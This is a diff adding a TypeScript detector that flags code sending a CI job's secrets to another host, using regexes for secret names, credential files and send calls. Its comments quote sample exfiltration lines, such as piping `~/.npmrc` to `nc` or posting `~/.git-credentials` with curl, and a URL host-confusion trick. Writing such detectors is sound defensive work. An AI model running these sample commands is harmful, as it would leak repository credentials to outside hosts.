@@ -1,0 +1,76 @@
+/**
+ * A CI job's secrets sent to another host by code a fix adds, in the forms `dangerous-code.ts`'s one-line `secrets-dump`
+ * does not read (session 65): the fix branch is pushed to the repository, whose `push` and `pull_request` workflows run
+ * it with the repository's secrets. Read per form, each chosen so that an ordinary test sending a token to its own
+ * service (in a header, in a body to a URL it is given, to localhost) still passes:
+ * - a variable holding the whole environment or a credential file's text, named in a call that sends;
+ * - a credential file, or the checkout's `extraheader`, read and sent on one line (`curl -d @~/.git-credentials`,
+ *   `cat ~/.npmrc | nc h 443`, `sock.send(open(expanduser('~/.git-credentials')).read())`);
+ * - a secret-named variable in a literal URL to a host other than localhost, GitHub's or npm's registry
+ *   (`fetch('https://h/c?t=' + process.env.NPM_TOKEN)`);
+ * - one of the job's own credentials ({@link JOB_CREDENTIAL}) in a request's query or body to any host, or sent on a socket.
+ */
+
+/** Names a secret is kept under (`NPM_TOKEN`, `DB_PASSWORD`, `STRIPE_API_KEY`, `GOOGLE_CREDENTIALS`). */
+export const SECRET_NAME = String.raw`\w*(?:token|secret|passw(?:or)?d|passphrase|api_?key|access_?key|private_?key|credentials?)\w*`;
+/**
+ * Files of keys or tokens (`~/.aws/credentials`, `~/.ssh/id_rsa`, `.npmrc`), the checkout's `.git/config` (its persisted
+ * token) and a process's environment (`/proc/self/environ`; review 65): also the injection detector's.
+ */
+export const CREDENTIAL_FILE = String.raw`(?:(?:~|\$home|\/home\/\w+|\/root)?\/?\.(?:aws\/credentials|ssh\/(?:id_\w+|[\w.-]+\.pem)|npmrc|pypirc|netrc|git-credentials|git\/config|docker\/config\.json|kube\/config|config\/gh\/hosts\.ya?ml)|\/proc\/\w+\/environ)\b`;
+/** The job's own credentials, which no request carries in its query or body to a service the tests own. */
+const JOB_CREDENTIAL = String.raw`(?:g(?:ithub|h)_token|actions_\w*|n(?:pm|ode_auth)_token|aws_se\w*|pypi_\w*|twine_password)`;
+/**
+ * A variable read by name (`process.env.X`, `os.environ['X']`, `env.get('X')`, `os.getenv('X')`, `$X`, `${X}`, `%X%`,
+ * `$env:X`), inside a call too (`encodeURIComponent(process.env.X)`): also the injection detector's. What stands before
+ * `env` is read to 40 characters from a word's start, so that a long word costs a bounded scan from each of its starts.
+ */
+export const variableRead = (name: string) => String.raw`(?:\b[\w.(]{0,40}env(?:iron)?\s*(?:\.\s*(?:get\(\s*["'])?|\[\s*["'\x60])|\bgetenv\(\s*["']|\$\{?|%|\$env:)${name}\b`;
+/**
+ * Hosts a token is sent to by its own service: the machine itself (`localhost`, `127.x`), GitHub's, npm's registry; not
+ * when a user part follows (`https://github.com:443@evil.io/`), nor after a user part holding a backslash, `?` or `#`,
+ * where WHATWG's URL ends the host (`https://evil.io\\@github.com/` is evil.io's; review 65).
+ */
+const ELSEWHERE = String.raw`(?!(?:[^\s/\\?#@"'\x60]*@)?(?:localhost|127\.[\d.]+|(?:[\w-]+\.)*github(?:usercontent)?\.com|registry\.npmjs\.org)(?![\w.@-]|:\w*@))`;
+/** A call that sends what it is given. */
+const SEND = String.raw`(?:\b(?:requests|httpx|axios|session|client)\.\w+|\b(?:fetch|urlopen|post|put|send\w*|request))\s*\(`;
+const FORMS = new RegExp(
+  // A credential file, or the checkout's auth header, read and sent on one line; a secret in a literal URL to another
+  // host, inside it (`?t=${…}`, `$NPM_TOKEN`, `{os.environ[…]}`) or added to it; the job's credential in a request's
+  // query or body to any host, or on a socket (the reach stops at a closing bracket: a header after the body is not it;
+  // review 65), or in a shell request's body (`curl -d "$GITHUB_TOKEN"`, `wget --post-data`; review 65).
+  String.raw`(?:(?:@|-T\s*|--upload-file\s+)[^\s"'\x60]{0,40}|${SEND}[^\n]{0,200}?)${CREDENTIAL_FILE}|(?:${CREDENTIAL_FILE}|\bextraheader\b)[^\n|]{0,200}\|\s*(?:curl|wget|n(?:et)?c(?:at)?|socat)\b|\b(?:http|ws)s?:\/\/${ELSEWHERE}[^\s"'\x60{}]{0,300}(?:\{\s*|["'\x60]\s*\+\s*|(?=\$))${variableRead(SECRET_NAME)}|(?:${SEND}[^\n]{0,200}?\b(?:params|data|json|body|files|content|qs?|query)\s*[=:]|\bsend\w*\s*\()[^\n)}]{0,150}?${variableRead(JOB_CREDENTIAL)}| --?(?:d|F|(?:post-)?data\S*)[ =]?\S{0,60}?${variableRead(JOB_CREDENTIAL)}`,
+  'i',
+);
+
+/** The whole environment as an expression (`process.env`, `os.environ`, a copy of it), not a variable read from it. */
+const WHOLE_ENVIRONMENT = String.raw`(?:process\.env|os\.environ)\b(?!\s*\[|\s*\.\s*(?!copy\b|items\b)\w)`;
+/**
+ * The whole environment given to a call that sends it (`fetch(u, { body: JSON.stringify(process.env) })`,
+ * `requests.post(u, json=dict(os.environ))`), or piped to one (`env | curl -d @- …`; attack 64): `dangerous-code.ts`'s
+ * `secrets-dump` reads it in any text, and {@link secretsSent} through a variable.
+ */
+export const ENVIRONMENT_SENT = String.raw`${SEND}[^;\n]{0,200}?${WHOLE_ENVIRONMENT}|env\s*\|\s*(?:curl|wget|nc)\b`;
+const ENVIRONMENT_SENT_RE = new RegExp(ENVIRONMENT_SENT, 'i');
+/**
+ * A name given the whole environment or a credential file's text on one line, group 1 the name (a `$` before it, PHP's
+ * or a JavaScript name's, is left out of it and of its mentions alike).
+ */
+const CARRIER = new RegExp(String.raw`(?<![\w.])(\w+)[ \t]*=(?![=>])[^\n;]{0,300}?(?:${WHOLE_ENVIRONMENT}|${CREDENTIAL_FILE})`, 'gi');
+/** At most this many carriers are followed (bounds the pattern made of their names); past them, the text is refused. */
+const MAX_CARRIERS = 16;
+
+/**
+ * Whether `text` sends the environment or a credential file through a variable that holds it: each mention of a
+ * carrier's name that reads it whole (not `env.API_URL`, `env['X']`, nor its assignment) read as the environment.
+ */
+function carriedAndSent(text: string): boolean {
+  const carriers = [...text.matchAll(CARRIER)].map((match) => match[1]!);
+  if (carriers.length > MAX_CARRIERS) return true;
+  return carriers.length > 0 && ENVIRONMENT_SENT_RE.test(text.replace(new RegExp(String.raw`(?<![\w.'"])(?:${carriers.join('|')})\b(?!\s*(?:\.\s*\w|\[|=[^=]))`, 'g'), 'os.environ'));
+}
+
+/** Whether `text` sends a CI job's secrets to another host in one of this module's forms. */
+export function secretsSent(text: string): boolean {
+  return FORMS.test(text) || carriedAndSent(text);
+}
